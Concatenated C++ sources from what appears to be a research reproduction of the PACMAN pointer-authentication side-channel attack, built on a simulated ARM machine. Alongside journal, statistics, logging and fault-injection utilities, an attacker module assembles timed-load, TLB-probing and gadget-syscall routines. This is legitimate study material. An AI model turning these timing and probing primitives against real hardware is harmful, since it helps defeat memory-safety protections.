        fatal("journal %s: cannot open for append: %s", path.c_str(),
              std::strerror(errno));
    }
    if (result.corruptTail) {
        warn("journal %s: torn tail after %llu valid bytes "
             "(%zu records keep); truncating",
             path.c_str(), (unsigned long long)result.validBytes,
             result.records.size());
        if (::ftruncate(fd_, off_t(result.validBytes)) != 0) {
            fatal("journal %s: cannot truncate torn tail: %s",
                  path.c_str(), std::strerror(errno));
        }
        // Make the truncation itself durable: without this, a crash
        // between open() and the next append can resurrect the torn
        // tail the replay already reported as repaired.
        while (::fsync(fd_) != 0) {
            if (errno == EINTR)
                continue;
            fatal("journal %s: fsync after truncate failed: %s",
                  path.c_str(), std::strerror(errno));
        }
    }
    // Make the file's existence durable. O_CREAT may have just
    // created it; a crash before the directory entry reaches disk
    // would lose the whole journal even though every append was
    // fsync'd through fd_.
    fsyncDirOf(path);
    path_ = path;
    return result;
}

void
Journal::append(std::string_view key, std::string_view payload)
{
    PACMAN_ASSERT(fd_ >= 0, "append on closed journal");
    const std::string rec = frame(key, payload);
    std::lock_guard<std::mutex> lock(mu_);
    // One write(2) per frame: a kill between appends leaves whole
    // records; a kill inside the write leaves one torn frame that
    // replay() drops. Short writes are completed in a loop (POSIX
    // permits them even for regular files).
    size_t off = 0;
    while (off < rec.size()) {
        const ssize_t n = ::write(fd_, rec.data() + off, rec.size() - off);
        if (n < 0) {
            if (errno == EINTR)
                continue;
            fatal("journal %s: write failed: %s", path_.c_str(),
                  std::strerror(errno));
        }
        off += size_t(n);
    }
    // Like the write loop above, fsync may be interrupted by a
    // signal before the data reached disk; retry instead of dying.
    while (::fsync(fd_) != 0) {
        if (errno == EINTR)
            continue;
        fatal("journal %s: fsync failed: %s", path_.c_str(),
              std::strerror(errno));
    }
    ++appends_;
    if (crashAfter_ != 0 && appends_ >= crashAfter_) {
        // Chaos harness: die at a precise record boundary. _Exit so
        // no destructor (and no ASan leak pass) runs — exactly a
        // SIGKILL's view of the filesystem.
        std::_Exit(137);
    }
}

void
Journal::close()
{
    if (fd_ >= 0) {
        ::close(fd_);
        fd_ = -1;
        path_.clear();
    }
}

} // namespace pacman
