#include "stats.hh"

#include <algorithm>
#include <cmath>
#include <cstdarg>
#include <cstdio>
#include <sstream>

#include "logging.hh"

namespace pacman
{

void
SampleStat::add(double v)
{
    samples_.push_back(v);
    sorted_ = false;
}

void
SampleStat::ensureSorted() const
{
    if (!sorted_) {
        std::sort(samples_.begin(), samples_.end());
        sorted_ = true;
    }
}

double
SampleStat::mean() const
{
    if (samples_.empty())
        return 0.0;
    double sum = 0.0;
    for (double v : samples_)
        sum += v;
    return sum / double(samples_.size());
}

double
SampleStat::stddev() const
{
    if (samples_.size() < 2)
        return 0.0;
    const double m = mean();
    double acc = 0.0;
    for (double v : samples_)
        acc += (v - m) * (v - m);
    return std::sqrt(acc / double(samples_.size() - 1));
}

double
SampleStat::stderrOfMean() const
{
    if (samples_.size() < 2)
        return 0.0;
    return stddev() / std::sqrt(double(samples_.size()));
}

double
SampleStat::marginOfError(double z) const
{
    return z * stderrOfMean();
}

double
SampleStat::min() const
{
    PACMAN_ASSERT(!samples_.empty(), "min() of empty SampleStat");
    ensureSorted();
    return samples_.front();
}

double
SampleStat::max() const
{
    PACMAN_ASSERT(!samples_.empty(), "max() of empty SampleStat");
    ensureSorted();
    return samples_.back();
}

double
SampleStat::median() const
{
    return percentile(50.0);
}

double
SampleStat::percentile(double p) const
{
    PACMAN_ASSERT(!samples_.empty(), "percentile() of empty SampleStat");
    PACMAN_ASSERT(p >= 0.0 && p <= 100.0, "percentile %f out of [0,100]",
                  p);
    ensureSorted();
    // Linear interpolation between the two bracketing order
    // statistics. Truncating the fractional rank (the old behaviour)
    // biases tail percentiles low: p90 of 100 samples landed on the
    // 90th order statistic instead of 0.1 of the way to the 91st.
    const double rank = p / 100.0 * double(samples_.size() - 1);
    const size_t lo = size_t(rank);
    const size_t hi = std::min(lo + 1, samples_.size() - 1);
    const double frac = rank - double(lo);
    return samples_[lo] + frac * (samples_[hi] - samples_[lo]);
}

void
SampleStat::merge(const SampleStat &other)
{
    if (other.samples_.empty())
        return;
    samples_.insert(samples_.end(), other.samples_.begin(),
                    other.samples_.end());
    sorted_ = false;
}

void
Histogram::add(uint64_t value)
{
    ++counts_[value];
    ++total_;
}

uint64_t
Histogram::countOf(uint64_t value) const
{
    auto it = counts_.find(value);
    return it == counts_.end() ? 0 : it->second;
}

double
Histogram::fractionAtMost(uint64_t value) const
{
    if (total_ == 0)
        return 0.0;
    uint64_t acc = 0;
    for (const auto &[v, n] : counts_) {
        if (v > value)
            break;
        acc += n;
    }
    return double(acc) / double(total_);
}

double
Histogram::fractionAtLeast(uint64_t value) const
{
    if (total_ == 0)
        return 0.0;
    uint64_t acc = 0;
    for (const auto &[v, n] : counts_) {
        if (v >= value)
            acc += n;
    }
    return double(acc) / double(total_);
}

uint64_t
Histogram::maxValue() const
{
    return counts_.empty() ? 0 : counts_.rbegin()->first;
}

std::string
Histogram::render(uint64_t max_shown, unsigned width) const
{
    std::ostringstream out;
    uint64_t peak = 0;
    for (const auto &[v, n] : counts_)
        peak = std::max(peak, n);
    if (peak == 0)
        peak = 1;
    for (uint64_t v = 0; v <= max_shown; ++v) {
        const uint64_t n = countOf(v);
        const unsigned bar = unsigned(double(n) / double(peak) * width);
        out << strprintf("%4llu | %-*s %6.2f%% (%llu)\n",
                         (unsigned long long)v, int(width),
                         std::string(bar, '#').c_str(),
                         total_ ? 100.0 * double(n) / double(total_) : 0.0,
                         (unsigned long long)n);
    }
    uint64_t beyond = 0;
    for (const auto &[v, n] : counts_) {
        if (v > max_shown)
            beyond += n;
    }
    if (beyond > 0) {
        out << strprintf("  >%llu: %llu samples\n",
                         (unsigned long long)max_shown,
                         (unsigned long long)beyond);
    }
    return out.str();
}

void
TextTable::header(std::vector<std::string> cells)
{
    header_ = std::move(cells);
}

void
TextTable::row(std::vector<std::string> cells)
{
    rows_.push_back(std::move(cells));
}

std::string
TextTable::render() const
{
    size_t ncols = header_.size();
    for (const auto &r : rows_)
        ncols = std::max(ncols, r.size());

    std::vector<size_t> widths(ncols, 0);
    auto account = [&](const std::vector<std::string> &r) {
        for (size_t i = 0; i < r.size(); ++i)
            widths[i] = std::max(widths[i], r[i].size());
    };
    account(header_);
    for (const auto &r : rows_)
        account(r);

    std::ostringstream out;
    auto emit = [&](const std::vector<std::string> &r) {
        for (size_t i = 0; i < ncols; ++i) {
            const std::string cell = i < r.size() ? r[i] : "";
            out << cell << std::string(widths[i] - cell.size(), ' ');
            if (i + 1 < ncols)
                out << "  ";
        }
        out << '\n';
    };
    if (!header_.empty()) {
        emit(header_);
        size_t total = 0;
        for (size_t w : widths)
            total += w;
        out << std::string(total + 2 * (ncols - 1), '-') << '\n';
    }
    for (const auto &r : rows_)
        emit(r);
    return out.str();
}

std::string
strprintf(const char *fmt, ...)
{
    std::va_list ap;
    va_start(ap, fmt);
    std::va_list ap2;
    va_copy(ap2, ap);
    const int len = std::vsnprintf(nullptr, 0, fmt, ap);
    va_end(ap);
    std::string out(size_t(len), '\0');
    std::vsnprintf(out.data(), size_t(len) + 1, fmt, ap2);
    va_end(ap2);
    return out;
}

} // namespace pacman
