/**
 * @file
 * Error / status reporting utilities, in the spirit of gem5's logging.
 *
 * panic()  - an internal invariant was violated (simulator bug); aborts.
 * fatal()  - the user asked for something impossible (bad config); exits.
 * warn()   - something is off but the simulation can continue.
 * inform() - plain status output.
 */

#ifndef PACMAN_BASE_LOGGING_HH
#define PACMAN_BASE_LOGGING_HH

#include <cstdarg>
#include <cstdio>
#include <cstdlib>
#include <string>

namespace pacman
{

/** Verbosity levels for runtime log filtering. */
enum class LogLevel
{
    Quiet,    //!< only panic/fatal
    Normal,   //!< + warn/inform
    Debug,    //!< + debug trace messages
};

/** Global log level; defaults to Normal. */
LogLevel logLevel();

/** Set the global log level. */
void setLogLevel(LogLevel level);

/**
 * Internal helper shared by the reporting functions below.
 *
 * @param prefix Tag printed before the message (e.g. "warn: ").
 * @param fmt    printf-style format string.
 * @param ap     Variadic argument list.
 */
void logVprintf(const char *prefix, const char *fmt, std::va_list ap);

/** Report an unrecoverable internal error and abort (simulator bug). */
[[noreturn]] void panic(const char *fmt, ...)
    __attribute__((format(printf, 1, 2)));

/** Report an unrecoverable user error and exit(1) (bad configuration). */
[[noreturn]] void fatal(const char *fmt, ...)
    __attribute__((format(printf, 1, 2)));

/** Report a suspicious-but-survivable condition. */
void warn(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

/** Report ordinary status information. */
void inform(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

/** Report debug trace output (only shown at LogLevel::Debug). */
void debugLog(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

/**
 * Assert a simulator invariant with a formatted message.
 * Evaluates @p cond always (not compiled out), since simulator state
 * checks are part of the model's correctness.
 */
#define PACMAN_ASSERT(cond, fmt, ...)                                     \
    do {                                                                  \
        if (!(cond)) {                                                    \
            ::pacman::panic("assertion '%s' failed at %s:%d: " fmt,       \
                            #cond, __FILE__, __LINE__, ##__VA_ARGS__);    \
        }                                                                 \
    } while (0)

} // namespace pacman

#endif // PACMAN_BASE_LOGGING_HH
