#include "faults.hh"

#include <cmath>
#include <stdexcept>

#include "base/stats.hh"

namespace pacman
{

namespace
{

/** Reject NaN and out-of-range probabilities with the field name. */
void
checkRate(const char *field, double rate)
{
    if (std::isnan(rate) || rate < 0.0 || rate > 1.0) {
        throw std::invalid_argument(
            strprintf("FaultPlan::%s must be a probability in [0, 1], "
                      "got %g", field, rate));
    }
}

void
checkRange(const char *event, const char *field, uint64_t lo,
           uint64_t hi)
{
    if (lo > hi) {
        throw std::invalid_argument(strprintf(
            "FaultPlan: %s enabled but %s range is inverted "
            "(%llu > %llu)", event, field, (unsigned long long)lo,
            (unsigned long long)hi));
    }
}

void
checkNonZero(const char *event, const char *field, uint64_t value)
{
    if (value == 0) {
        throw std::invalid_argument(
            strprintf("FaultPlan: %s enabled but %s is zero", event,
                      field));
    }
}

} // anonymous namespace

void
FaultPlan::validate() const
{
    checkRate("contextSwitchRate", contextSwitchRate);
    checkRate("fullFlushFraction", fullFlushFraction);
    checkRate("preemptRate", preemptRate);
    checkRate("timerRate", timerRate);
    checkRate("syscallBusyRate", syscallBusyRate);
    checkRate("migrationRate", migrationRate);
    checkRate("migrationReturnRate", migrationReturnRate);
    checkRate("hangRate", hangRate);

    if (preemptRate > 0.0) {
        checkRange("preemption", "preemptMin/MaxCycles",
                   preemptMinCycles, preemptMaxCycles);
    }
    if (timerRate > 0.0) {
        checkRange("timer disturbance", "stallMin/MaxCycles",
                   stallMinCycles, stallMaxCycles);
        checkRange("timer disturbance", "skewPermilleMin/Max",
                   skewPermilleMin, skewPermilleMax);
        // A zero-permille skew stops the counting thread dead and a
        // zero-period burst is a divide-into-nothing: both "timers"
        // with no period.
        checkNonZero("timer disturbance", "skewPermilleMin",
                     skewPermilleMin);
        checkNonZero("timer disturbance", "jitterBurstCycles",
                     jitterBurstCycles);
    }
    if (syscallBusyRate > 0.0) {
        checkRange("syscall busy", "busyMin/MaxCount", busyMinCount,
                   busyMaxCount);
        checkNonZero("syscall busy", "busyMinCount", busyMinCount);
    }
    if (hangRate > 0.0)
        checkNonZero("wedge", "hangCycles", hangCycles);
}

} // namespace pacman
