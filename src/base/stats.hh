/**
 * @file
 * Lightweight statistics containers used by the benchmark harnesses:
 * sample accumulators (median/percentile), integer histograms, and an
 * ASCII table formatter for printing paper-style rows.
 */

#ifndef PACMAN_BASE_STATS_HH
#define PACMAN_BASE_STATS_HH

#include <cstdint>
#include <map>
#include <string>
#include <vector>

namespace pacman
{

/**
 * Accumulates scalar samples and answers order-statistic queries.
 * Samples are stored; suitable for the 1e3..1e5 sample counts used by
 * the reproduction experiments.
 */
class SampleStat
{
  public:
    /** Add one sample. */
    void add(double v);

    /** Number of samples recorded. */
    size_t count() const { return samples_.size(); }

    /** Arithmetic mean (0 if empty). */
    double mean() const;

    /** Sample standard deviation (0 if fewer than 2 samples). */
    double stddev() const;

    /** Smallest sample. */
    double min() const;

    /** Largest sample. */
    double max() const;

    /** Median (mean of the two middle elements for even counts). */
    double median() const;

    /**
     * p-th percentile with p in [0, 100], linear interpolation between
     * the two bracketing order statistics (rank = p/100 * (n-1)).
     * Requires at least one sample.
     */
    double percentile(double p) const;

    /**
     * Standard error of the mean: stddev / sqrt(n). 0 with fewer
     * than 2 samples (no spread information yet).
     */
    double stderrOfMean() const;

    /**
     * Half-width of the mean's confidence interval at @p z standard
     * errors (z = 1.96 for ~95%). The adaptive resampler treats a
     * decision as ambiguous while the threshold sits within
     * mean() +/- marginOfError(z).
     */
    double marginOfError(double z) const;

    /**
     * Fold @p other's samples into this accumulator. Associative and
     * commutative with respect to every query above, so per-worker
     * accumulators from a parallel campaign can be merged in any
     * order and still report identical statistics.
     */
    void merge(const SampleStat &other);

    /** Discard all samples. */
    void reset() { samples_.clear(); sorted_ = true; }

    /** Access raw samples (unsorted insertion order not preserved). */
    const std::vector<double> &samples() const { return samples_; }

  private:
    void ensureSorted() const;

    mutable std::vector<double> samples_;
    mutable bool sorted_ = true;
};

/**
 * Histogram over non-negative integer values (e.g. "number of TLB misses
 * observed per trial" in Figure 8).
 */
class Histogram
{
  public:
    /** Count one occurrence of @p value. */
    void add(uint64_t value);

    /** Total occurrences recorded. */
    uint64_t total() const { return total_; }

    /** Occurrences of exactly @p value. */
    uint64_t countOf(uint64_t value) const;

    /** Fraction of samples <= @p value. */
    double fractionAtMost(uint64_t value) const;

    /** Fraction of samples >= @p value. */
    double fractionAtLeast(uint64_t value) const;

    /** Largest recorded value (0 if empty). */
    uint64_t maxValue() const;

    /**
     * Render as an ASCII bar chart, one row per value in [0, maxShown],
     * with percentage labels — the textual analogue of Figure 8.
     */
    std::string render(uint64_t max_shown, unsigned width = 50) const;

    const std::map<uint64_t, uint64_t> &buckets() const { return counts_; }

  private:
    std::map<uint64_t, uint64_t> counts_;
    uint64_t total_ = 0;
};

/**
 * Fixed-column ASCII table builder used by every bench binary to print
 * the rows the paper's tables/figures report.
 */
class TextTable
{
  public:
    /** Set the header row. */
    void header(std::vector<std::string> cells);

    /** Append a data row. */
    void row(std::vector<std::string> cells);

    /** Render with column alignment and a separator under the header. */
    std::string render() const;

  private:
    std::vector<std::string> header_;
    std::vector<std::vector<std::string>> rows_;
};

/** printf-style std::string formatter. */
std::string strprintf(const char *fmt, ...)
    __attribute__((format(printf, 1, 2)));

} // namespace pacman

#endif // PACMAN_BASE_STATS_HH
