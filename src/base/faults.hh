/**
 * @file
 * Declarative fault model for the chaos layer (sim/faults.hh).
 *
 * The paper's Section 8.2 runs the attack under real-world load
 * ("web browsing + video calls"); the disturbances such load causes
 * are not one knob but a family of distinct events. A FaultPlan
 * describes, per event type, how often the event fires at each
 * *fault opportunity* (the instants Machine::injectNoise() marks
 * between attack steps — twice per oracle query) and what shape the
 * burst takes:
 *
 *  (a) context switches — the scheduler runs another process: full
 *      or partial flush of the attacker's (EL0) TLB entries plus
 *      cache/TLB pollution from the other process's working set;
 *  (b) interrupt-style preemption — a random cycle budget is burned
 *      and the interrupt handler's footprint pollutes the primed
 *      iTLB/dTLB sets;
 *  (c) multi-thread-timer disturbance — the counting thread is
 *      descheduled (stall), migrated to a different-throughput core
 *      (rate skew), or suffers a jitter burst;
 *  (d) transient syscall failure — the kernel returns a retryable
 *      busy error from the gadget syscalls;
 *  (e) core migration — the attacker is rescheduled onto an
 *      e-core: memory latencies and timer throughput change until
 *      it migrates back.
 *
 * Pure data, base-layer: the attack stack reads none of this; only
 * the FaultInjector interprets it. All randomness is drawn by the
 * injector from a Random::deriveSeed stream, so faulted campaigns
 * stay bit-identical at any --jobs count (PR 1 contract).
 */

#ifndef PACMAN_BASE_FAULTS_HH
#define PACMAN_BASE_FAULTS_HH

#include <cstdint>
#include <string>

namespace pacman
{

/** Per-event-type fault rates and burst shapes. */
struct FaultPlan
{
    // --- (a) context switch ---
    double contextSwitchRate = 0.0; //!< probability per opportunity
    double fullFlushFraction = 0.5; //!< full vs partial EL0 TLB flush
    unsigned flushSets = 24;        //!< dTLB sets hit by a partial flush
    unsigned pollutePages = 8;      //!< other process's working set

    // --- (b) interrupt-style preemption ---
    double preemptRate = 0.0;
    uint64_t preemptMinCycles = 400;  //!< burned cycle budget range
    uint64_t preemptMaxCycles = 4000;
    unsigned preemptPollutePages = 6; //!< handler footprint (d+iTLB)

    // --- (c) multi-thread-timer disturbance ---
    double timerRate = 0.0;
    uint64_t stallMinCycles = 300;   //!< counting thread descheduled
    uint64_t stallMaxCycles = 2500;
    uint64_t skewPermilleMin = 870;  //!< throughput scale range
    uint64_t skewPermilleMax = 1130; //!< (counting thread migrated)
    uint64_t jitterBoost = 5;        //!< extra +/- counts during burst
    uint64_t jitterBurstCycles = 3000;

    // --- (d) transient syscall failure ---
    double syscallBusyRate = 0.0;
    unsigned busyMinCount = 1; //!< consecutive gadget calls that fail
    unsigned busyMaxCount = 2;

    // --- (e) core migration ---
    double migrationRate = 0.0;       //!< p-core -> e-core
    double migrationReturnRate = 0.3; //!< e-core -> p-core, per opp.

    // --- (f) wedge (hang) ---
    /**
     * Probability per opportunity that the replica wedges: the
     * scheduler never returns to the attacker for hangCycles of
     * simulated time. The default burn is effectively forever — only
     * a supervising watchdog with a guest-cycle budget (ItemBudget)
     * gets the item back; an unsupervised campaign would simply see
     * every measurement on the wedged replica time out. The chaos
     * harness uses this to prove the Hang rung of the recovery
     * ladder, which is why FaultPlan::scaled() — the robustness
     * sweep's axis — leaves it at zero.
     */
    double hangRate = 0.0;
    uint64_t hangCycles = 1ull << 40; //!< simulated-cycle burn

    /** True if any event can ever fire. */
    bool
    enabled() const
    {
        return contextSwitchRate > 0.0 || preemptRate > 0.0 ||
               timerRate > 0.0 || syscallBusyRate > 0.0 ||
               migrationRate > 0.0 || hangRate > 0.0;
    }

    /**
     * Reject malformed plans with a descriptive
     * std::invalid_argument instead of silently misbehaving
     * downstream (a NaN rate never fires, a zero-period timer burst
     * divides the disturbance into nothing, an inverted min/max range
     * traps in Random::range). Rates are validated unconditionally;
     * burst-shape constraints only when their event is enabled, so a
     * plan carrying nonsense defaults for an event that can never
     * fire stays usable. Called by sim::FaultInjector at
     * construction and by the campaign runner at provisioning.
     */
    void validate() const;

    /**
     * The robustness_sweep's one-dimensional fault axis: all event
     * rates scaled together by @p intensity in [0, 1]. Rates are the
     * per-opportunity firing probabilities; burst shapes stay at
     * their defaults. intensity 0 disables everything (the pristine
     * baseline); 0.2 is the documented "heavy load" point of
     * EXPERIMENTS.md.
     */
    static FaultPlan
    scaled(double intensity)
    {
        FaultPlan p;
        p.contextSwitchRate = 0.50 * intensity;
        p.preemptRate = 0.70 * intensity;
        p.timerRate = 0.40 * intensity;
        p.syscallBusyRate = 0.50 * intensity;
        p.migrationRate = 0.12 * intensity;
        return p;
    }
};

/** Counters for every realized fault event; mergeable per-chunk. */
struct FaultStats
{
    uint64_t contextSwitches = 0;
    uint64_t fullFlushes = 0;
    uint64_t partialFlushes = 0;
    uint64_t preemptions = 0;
    uint64_t preemptedCycles = 0;
    uint64_t timerStalls = 0;
    uint64_t timerSkews = 0;
    uint64_t jitterBursts = 0;
    uint64_t busyArms = 0;
    uint64_t migrations = 0;
    uint64_t hangs = 0;

    /** Total realized events (cycle budgets excluded). */
    uint64_t
    total() const
    {
        return contextSwitches + preemptions + timerStalls +
               timerSkews + jitterBursts + busyArms + migrations +
               hangs;
    }

    /** Fold @p other into this (campaign merge; order-insensitive). */
    void
    merge(const FaultStats &other)
    {
        contextSwitches += other.contextSwitches;
        fullFlushes += other.fullFlushes;
        partialFlushes += other.partialFlushes;
        preemptions += other.preemptions;
        preemptedCycles += other.preemptedCycles;
        timerStalls += other.timerStalls;
        timerSkews += other.timerSkews;
        jitterBursts += other.jitterBursts;
        busyArms += other.busyArms;
        migrations += other.migrations;
        hangs += other.hangs;
    }
};

} // namespace pacman

#endif // PACMAN_BASE_FAULTS_HH
