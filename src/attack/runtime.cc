#include "runtime.hh"

#include "asm/assembler.hh"
#include "base/logging.hh"
#include "kernel/layout.hh"

namespace pacman::attack
{

using asmjit::Assembler;
using namespace pacman::isa; // register names
using namespace pacman::kernel;

AttackerProcess::AttackerProcess(Machine &machine)
    : machine_(machine)
{
    // User code (2 pages) and data (256 scratch pages).
    machine_.mem().mapRange(
        UserCodeBase, 2 * PageSize,
        mem::PageFlags{.user = true, .writable = true,
                       .executable = true, .device = false});
    machine_.mem().mapRange(
        UserDataBase, 256 * PageSize,
        mem::PageFlags{.user = true, .writable = true,
                       .executable = false, .device = false});

    // Default argument arrays: list in scratch page 0 (dTLB set 0),
    // out in scratch page 1 (set 1). Oracles relocate them away from
    // the set under probe via placeArrays().
    listArray_ = scratchPage(0);
    outArray_ = scratchPage(1);

    buildRoutines();
}

Addr
AttackerProcess::scratchPage(unsigned index) const
{
    PACMAN_ASSERT(index < 256, "scratch page %u out of range", index);
    return UserDataBase + uint64_t(index) * PageSize;
}

void
AttackerProcess::placeArrays(unsigned list_page, unsigned out_page)
{
    listArray_ = scratchPage(list_page);
    outArray_ = scratchPage(out_page);
}

std::vector<uint64_t>
AttackerProcess::reservedDtlbSets() const
{
    // Only *fixed* infrastructure counts: the argument arrays are
    // relocatable (placeArrays) and oracles move them per target.
    const uint64_t sets = machine_.mem().config().dtlb.sets;
    return {
        // Kernel data page the gadget reads (cond/modifier slots).
        pageNumber(vaPart(KernelDataBase)) & (sets - 1),
        // Benign data page touched during training.
        pageNumber(vaPart(BenignDataBase)) & (sets - 1),
        // Busy-slot page every gadget syscall checks first.
        pageNumber(vaPart(KernelDataBase + BusySlotOff)) & (sets - 1),
    };
}

void
AttackerProcess::buildRoutines()
{
    Assembler a(UserCodeBase);

    // syscall: number in x16, args in x0..x5 (host pre-sets regs).
    a.label("r_syscall");
    a.svc(0);
    a.hlt(0);

    // timedLoad: x1 = address -> x0 = multithread-counter delta.
    a.label("r_timed_load");
    a.mov64(X3, TimerPage);
    a.isb();
    a.ldr(X4, X3, 0);   // t1
    a.isb();
    a.ldr(X5, X1, 0);   // the access under measurement
    a.isb();
    a.ldr(X6, X3, 0);   // t2
    a.isb();
    a.sub(X0, X6, X4);
    a.hlt(0);

    // timedLoadPmc: x1 = address -> x0 = PMC0 cycle delta.
    a.label("r_timed_load_pmc");
    a.isb();
    a.mrs(X4, SysReg::PMC0);
    a.isb();
    a.ldr(X5, X1, 0);
    a.isb();
    a.mrs(X6, SysReg::PMC0);
    a.isb();
    a.sub(X0, X6, X4);
    a.hlt(0);

    // loadAll: x1 = list address, x2 = count.
    a.label("r_load_list");
    a.label("ll_loop");
    a.cbz(X2, "ll_done");
    a.ldr(X3, X1, 0);   // next target address
    a.ldr(X4, X3, 0);   // access it
    a.addi(X1, X1, 8);
    a.subi(X2, X2, 1);
    a.b("ll_loop");
    a.label("ll_done");
    a.hlt(0);

    // probeAll: x1 = list, x2 = count, x3 = out array.
    a.label("r_probe_list");
    a.mov64(X9, TimerPage);
    a.label("pl_loop");
    a.cbz(X2, "pl_done");
    a.ldr(X4, X1, 0);   // next target address
    a.isb();
    a.ldr(X5, X9, 0);   // t1
    a.isb();
    a.ldr(X6, X4, 0);   // probe access
    a.isb();
    a.ldr(X7, X9, 0);   // t2
    a.isb();
    a.sub(X8, X7, X5);
    a.str(X8, X3, 0);
    a.addi(X1, X1, 8);
    a.addi(X3, X3, 8);
    a.subi(X2, X2, 1);
    a.b("pl_loop");
    a.label("pl_done");
    a.hlt(0);

    // fetchAt: x1 = target containing a ret stub.
    a.label("r_fetch_at");
    a.blr(X1);
    a.hlt(0);

    // fetchAllAt: x1 = list, x2 = count; branch to each address.
    a.label("r_fetch_list");
    a.label("fl_loop");
    a.cbz(X2, "fl_done");
    a.ldr(X3, X1, 0);
    a.blr(X3);
    a.addi(X1, X1, 8);
    a.subi(X2, X2, 1);
    a.b("fl_loop");
    a.label("fl_done");
    a.hlt(0);

    // readCntpct: x0 = CNTPCT_EL0.
    a.label("r_read_cntpct");
    a.isb();
    a.mrs(X0, SysReg::CNTPCT_EL0);
    a.isb();
    a.hlt(0);

    // readPmc0: traps at EL0 unless the kext granted access.
    a.label("r_read_pmc0");
    a.isb();
    a.mrs(X0, SysReg::PMC0);
    a.isb();
    a.hlt(0);

    const asmjit::Program prog = a.finalize();
    Addr addr = prog.base;
    for (InstWord word : prog.words) {
        machine_.mem().writeVirt(addr, word, 4);
        addr += InstBytes;
    }

    rSyscall_ = prog.symbol("r_syscall");
    rTimedLoad_ = prog.symbol("r_timed_load");
    rTimedLoadPmc_ = prog.symbol("r_timed_load_pmc");
    rLoadList_ = prog.symbol("r_load_list");
    rProbeList_ = prog.symbol("r_probe_list");
    rFetchAt_ = prog.symbol("r_fetch_at");
    rFetchList_ = prog.symbol("r_fetch_list");
    rReadCntpct_ = prog.symbol("r_read_cntpct");
    rReadPmc0_ = prog.symbol("r_read_pmc0");
}

bool
AttackerProcess::verifyRoutines() const
{
    // The `mem()` accessor is non-const but the functional probes
    // below only read; keep this check usable from const contexts.
    auto &mem = const_cast<Machine &>(machine_).mem();
    for (Addr entry :
         {rSyscall_, rTimedLoad_, rTimedLoadPmc_, rLoadList_,
          rProbeList_, rFetchAt_, rFetchList_, rReadCntpct_,
          rReadPmc0_}) {
        if (entry == 0)
            return false; // buildRoutines never ran to completion
        if (!mem.translateFunctional(entry))
            return false; // code page unmapped
        if (mem.readVirt(entry, 4) == 0)
            return false; // entry word zeroed (no ARM inst is 0)
    }
    const Addr lo = UserDataBase;
    const Addr hi = UserDataBase + 256 * PageSize;
    return listArray_ >= lo && listArray_ < hi && outArray_ >= lo &&
           outArray_ < hi;
}

uint64_t
AttackerProcess::syscall(uint16_t num, uint64_t a0, uint64_t a1,
                         uint64_t a2)
{
    auto &core = machine_.core();
    core.setReg(X16, num);
    return machine_.call(rSyscall_, {a0, a1, a2});
}

uint64_t
AttackerProcess::timedLoad(Addr va)
{
    return machine_.call(rTimedLoad_, {0, va});
}

uint64_t
AttackerProcess::timedLoadPmc(Addr va)
{
    return machine_.call(rTimedLoadPmc_, {0, va});
}

void
AttackerProcess::writeList(const std::vector<Addr> &addrs)
{
    PACMAN_ASSERT(addrs.size() * 8 <= PageSize,
                  "address list exceeds one page (%zu entries)",
                  addrs.size());
    Addr slot = listArray_;
    for (Addr va : addrs) {
        machine_.mem().writeVirt64(slot, va);
        slot += 8;
    }
}

void
AttackerProcess::loadAll(const std::vector<Addr> &addrs)
{
    for (Addr va : addrs)
        ensureMapped(va);
    writeList(addrs);
    machine_.call(rLoadList_, {0, listArray_, addrs.size()});
}

const std::vector<uint64_t> &
AttackerProcess::probeAll(const std::vector<Addr> &addrs)
{
    for (Addr va : addrs)
        ensureMapped(va);
    writeList(addrs);
    machine_.call(rProbeList_, {0, listArray_, addrs.size(), outArray_});
    probeScratch_.clear();
    probeScratch_.reserve(addrs.size());
    for (size_t i = 0; i < addrs.size(); ++i)
        probeScratch_.push_back(machine_.mem().readVirt64(outArray_ + 8 * i));
    return probeScratch_;
}

void
AttackerProcess::fetchAt(Addr va)
{
    machine_.call(rFetchAt_, {0, va});
}

void
AttackerProcess::fetchAllAt(const std::vector<Addr> &addrs)
{
    writeList(addrs);
    machine_.call(rFetchList_, {0, listArray_, addrs.size()});
}

uint64_t
AttackerProcess::readCntpct()
{
    return machine_.call(rReadCntpct_, {});
}

cpu::ExitStatus
AttackerProcess::tryReadPmc0(uint64_t *value)
{
    const cpu::ExitStatus status = machine_.runGuest(rReadPmc0_, {});
    if (status.kind == cpu::ExitKind::Halted && value)
        *value = machine_.core().reg(X0);
    return status;
}

void
AttackerProcess::ensureMapped(Addr va)
{
    auto &mem = machine_.mem();
    if (!mem.translateFunctional(va)) {
        mem.mapPage(va, mem::PageFlags{.user = true, .writable = true,
                                       .executable = false,
                                       .device = false});
    }
}

void
AttackerProcess::plantRetStub(Addr va)
{
    auto &mem = machine_.mem();
    if (!mem.translateFunctional(va)) {
        mem.mapPage(va, mem::PageFlags{.user = true, .writable = true,
                                       .executable = true,
                                       .device = false});
    }
    Assembler a(va);
    a.ret();
    const asmjit::Program prog = a.finalize();
    mem.writeVirt(va, prog.words[0], 4);
}

} // namespace pacman::attack
