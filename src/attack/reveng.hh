/**
 * @file
 * Reverse-engineering harness (paper Sections 6 and 7): the stride/N
 * sweeps behind Figure 5, the timer-distribution measurements behind
 * Figure 7, and the cross-privilege sharing probes behind Figure 6.
 */

#ifndef PACMAN_ATTACK_REVENG_HH
#define PACMAN_ATTACK_REVENG_HH

#include <cstdint>
#include <vector>

#include "attack/eviction.hh"
#include "attack/runtime.hh"
#include "base/stats.hh"

namespace pacman::attack
{

/** One point of a Figure 5 curve. */
struct SweepPoint
{
    unsigned n = 0;          //!< number of eviction accesses
    double medianLatency = 0; //!< cycles (PMC0)
};

/** Which timing source a measurement uses. */
enum class TimerKind
{
    Pmc,         //!< Apple performance counter (cycles)
    MultiThread, //!< shared-variable counter (counts)
};

/** Micro-architectural latency classes measured for Figure 7. */
enum class LatencyClass
{
    L1Hit,          //!< L1D hit, dTLB hit
    L2CacheHit,     //!< L1D conflict miss, L2 hit, dTLB hit
    DtlbMiss,       //!< dTLB conflict miss, L2 TLB hit
    L2TlbMiss,      //!< full TLB miss (table walk)
};

/** Human-readable class name. */
const char *latencyClassName(LatencyClass cls);

/** The reverse-engineering driver. */
class RevEng
{
  public:
    explicit RevEng(AttackerProcess &proc);

    /** Expose PMC0 to EL0 via the reverse-engineering kext. */
    void enablePmc();

    /**
     * Figure 5(a)/(b): data-side sweep. For each N in [1, max_n],
